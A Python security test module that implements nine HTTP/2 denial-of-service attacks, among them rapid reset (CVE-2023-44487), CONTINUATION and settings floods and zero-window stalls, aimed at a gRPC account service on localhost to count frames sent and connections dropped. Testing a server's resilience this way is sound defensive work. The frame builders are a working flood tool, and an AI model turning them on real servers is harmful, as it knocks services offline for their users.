"""Abuse of HTTP/2, frame by frame, from a process of its own: `python -m tests.security.http2 ATTACK PORT SECONDS KEY`.

Each attack keeps sending for its time and connects anew whenever it is thrown out; it prints what it managed as JSON.
"""

import contextlib
import json
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 8
GET_ACCOUNT = b"\n$01890a5d-ac96-774b-bcce-b302099a8057"
BATCH = 200


def headers(key: str, more: int = 0) -> bytes:
    """The header block of a call of GetAccount."""
    block = [
        (":method", "POST"), (":scheme", "http"), (":authority", "localhost"), ("te", "trailers"),
        (":path", "/synposter.accounts.v1.AccountService/GetAccount"), ("content-type", "application/grpc"),
        ("authorization", f"Bearer {key}"),
    ]  # fmt: skip
    block.sort(key=lambda pair: not pair[0].startswith(":"))
    return bytes(Encoder().encode(block + [(f"x-{number}", "x" * 100) for number in range(more)]))


def message() -> bytes:
    """A GetAccount request in its gRPC frame."""
    return struct.pack(">BI", 0, len(GET_ACCOUNT)) + GET_ACCOUNT


def call(stream: int, key: str) -> list[Frame]:
    """A whole call."""
    return [
        HeadersFrame(stream, headers(key), flags=["END_HEADERS"]),
        DataFrame(stream, message(), flags=["END_STREAM"]),
    ]


def streams() -> Iterator[int]:
    return iter(range(1, 2**31, 2))


def rapid_reset(key: str) -> Iterator[list[Frame]]:
    """CVE-2023-44487: calls that are cancelled as soon as they are made."""
    for stream in streams():
        yield [*call(stream, key), RstStreamFrame(stream, error_code=CANCEL)]


def headers_without_end(key: str) -> Iterator[list[Frame]]:
    """Streams that are opened and left so."""
    for stream in streams():
        yield [HeadersFrame(stream, headers(key), flags=["END_HEADERS"])]


def continuation(key: str) -> Iterator[list[Frame]]:
    """CVE-2024-27316 and others: a header block that never ends."""
    yield [HeadersFrame(1, headers(key))]
    piece = bytes(Encoder().encode([("x-junk", "x" * 8_000)], huffman=False))
    while True:
        yield [ContinuationFrame(1, piece)]


def large_headers(key: str) -> Iterator[list[Frame]]:
    """Blocks beyond the metadata limit, one after the other."""
    for stream in streams():
        yield [HeadersFrame(stream, headers(key, more=150), flags=["END_HEADERS"])]


def pings(_: str) -> Iterator[list[Frame]]:
    while True:
        yield [PingFrame(0, b"x" * 8)]


def settings(_: str) -> Iterator[list[Frame]]:
    """CVE-2019-9515: each wants an acknowledgement, which nobody reads."""
    while True:
        yield [SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535})]


def empty_data(key: str) -> Iterator[list[Frame]]:
    """CVE-2019-9518: frames without anything in them."""
    yield [HeadersFrame(1, headers(key), flags=["END_HEADERS"])]
    while True:
        yield [DataFrame(1, b"")]


def window_updates(_: str) -> Iterator[list[Frame]]:
    while True:
        yield [WindowUpdateFrame(0, window_increment=1)]


def zero_window(key: str) -> Iterator[list[Frame]]:
    """CVE-2019-9517: calls whose answers may not be sent."""
    yield [SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})]
    for stream in streams():
        yield call(stream, key)


ATTACKS: dict[str, Callable[[str], Iterator[list[Frame]]]] = {
    each.__name__: each
    for each in (
        rapid_reset, headers_without_end, continuation, large_headers, pings, settings, empty_data, window_updates,
        zero_window,
    )
}  # fmt: skip


def attack(name: str, port: int, seconds: float, key: str) -> dict[str, int]:
    """Frames sent and connections lost until the time is over."""
    until, sent, lost = time.monotonic() + seconds, 0, 0
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
            connection.sendall(PREFACE + SettingsFrame(0).serialize())
            frames = ATTACKS[name](key)
            while time.monotonic() < until:
                batch = [frame for _ in range(BATCH) for frame in next(frames, [])]
                if not batch:
                    break
                with contextlib.suppress(TimeoutError):
                    connection.sendall(b"".join(frame.serialize() for frame in batch))
                sent += len(batch)
                if name != "zero_window" and not drained(connection):
                    break
        lost += 1
    return {"frames": sent, "connections": lost}


def drained(connection: socket.socket) -> bool:
    """Reads what is there; whether the other side still holds the connection."""
    connection.setblocking(False)
    try:
        while data := connection.recv(1 << 20):
            pass
        return bool(data)
    except BlockingIOError:
        return True
    finally:
        connection.settimeout(1)


if __name__ == "__main__":
    json.dump(attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]), sys.stdout)
